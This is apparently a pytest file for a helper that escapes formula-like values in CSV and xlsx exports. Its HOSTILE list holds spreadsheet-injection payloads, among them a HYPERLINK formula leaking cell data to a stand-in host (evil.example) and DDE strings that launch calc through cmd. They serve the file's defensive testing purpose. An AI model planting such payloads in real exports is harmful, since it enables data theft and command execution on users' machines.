"""Values that start like a formula reach CSV and xlsx files as text: perfeval/spreadsheets.py."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from perfeval.spreadsheets import FORMULA_STARTS, append_row, csv_row, is_formula_like, neutralise, set_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
]
HARMLESS = ["甲单位", "a=b", "单位 = 1", "", "12", "-12.50", "+3%", "-1,234,567.89", "2023-01-01"]


def read_csv(rows) -> list[list[str]]:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(csv_row(row))
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_csv_value_gets_an_apostrophe_and_keeps_its_text(value):
    assert is_formula_like(value)
    [[written]] = read_csv([[value]])
    assert written == "'" + value
    assert not written.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", HARMLESS)
def test_text_and_plain_numbers_are_written_unchanged(value):
    assert neutralise(value) == value
    assert read_csv([[value]]) == [[value]]


def test_non_text_values_pass_through_untouched():
    for value in (None, 3, Decimal("-5.00"), -1.5):
        assert neutralise(value) is value


def test_every_field_of_a_row_is_neutralised():
    assert read_csv([["甲单位", "=1+1", Decimal("-3.5"), "@x"]]) == [["甲单位", "'=1+1", "-3.5", "'@x"]]


def xlsx_round_trip(fill) -> tuple[list[list], str]:
    workbook = Workbook()
    fill(workbook.active)
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    values = [list(row) for row in load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=True)]
    return values, sheet_xml


def quote_prefixed(content_fill) -> list[bool]:
    workbook = Workbook()
    content_fill(workbook.active)
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    return [bool(cell.quotePrefix) for cell in sheet["A"]]


def test_openpyxl_alone_would_store_a_leading_equals_sign_as_a_formula():
    # The hazard the helpers exist for: without them, the value becomes a live formula in the file.
    _, sheet_xml = xlsx_round_trip(lambda ws: ws.append([HOSTILE[0]]))
    assert "<f>" in sheet_xml


def test_xlsx_rows_keep_every_value_exactly_and_store_no_formula():
    values, sheet_xml = xlsx_round_trip(lambda ws: [append_row(ws, [value, 1]) for value in HOSTILE])
    assert "<f>" not in sheet_xml
    # XML itself reads a carriage return back as a line feed.
    assert values == [[value.replace("\r", "\n") if value.startswith("\r") else value, 1] for value in HOSTILE]


def test_xlsx_single_cells_store_text_as_text():
    def fill(ws):
        set_cell(ws["A1"], "=SUM(1,2)")
        set_cell(ws["A2"], 42)

    values, sheet_xml = xlsx_round_trip(fill)
    assert "<f>" not in sheet_xml
    assert values == [["=SUM(1,2)"], [42]]


def test_formula_like_xlsx_text_keeps_excels_quote_prefix_so_it_stays_text_after_editing():
    def fill(ws):
        for value in [*HOSTILE, *HARMLESS]:
            append_row(ws, [value])

    assert quote_prefixed(fill) == [True] * len(HOSTILE) + [False] * len(HARMLESS)
